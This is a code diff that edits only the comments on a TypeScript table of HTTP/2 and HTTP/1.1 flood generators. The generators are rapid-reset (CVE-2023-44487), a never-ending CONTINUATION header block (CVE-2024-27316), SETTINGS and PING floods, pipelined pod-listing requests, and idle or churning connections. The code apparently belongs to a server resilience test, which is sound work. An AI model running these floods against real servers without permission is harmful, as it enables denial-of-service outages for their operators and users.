@@ -61,7 +61,7 @@ const repeated = (bytes: Buffer): FloodStream => h2(() => bytes);
 const CONTINUED = Buffer.concat([frame(HEADERS, END_STREAM, 1, LIST)]);
 
 const FLOODS = {
-  /** CVE-2023-44487. */
+  /** Opens streams and resets them immediately (CVE-2023-44487). */
   'rapid-reset': () => {
     const id = streams();
     return h2(() =>
@@ -91,7 +91,7 @@ const FLOODS = {
     const id = streams();
     return h2(() => batch(() => frame(HEADERS, END_STREAM | END_HEADERS, id(), LIST)));
   },
-  /** CVE-2024-27316 and similar. */
+  /** Sends a header block that never ends (CVE-2024-27316 and similar). */
   continuation: () => h2(() => batch(() => frame(CONTINUATION, 0, 1)), Buffer.concat([PREFACE, CONTINUED])),
   settings: () => repeated(batch(() => frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 4]), number(65_535)])))),
   ping: () => repeated(batch(() => frame(PING, 0, 0, Buffer.alloc(8)))),
@@ -109,7 +109,7 @@ const FLOODS = {
     const bytes = Buffer.from('GET /api/v1/pods HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(BATCH));
     return { alpn: 'http/1.1' as const, head: Buffer.alloc(0), next: () => bytes };
   },
-  /** Handshakes only. */
+  /** Opens connections that send nothing after the handshake. */
   churn: () => h2(() => undefined, Buffer.alloc(0)),
   /** Connections without any data after the handshake. They are not reopened. */
   idle: () => h2(() => undefined, Buffer.alloc(0)),
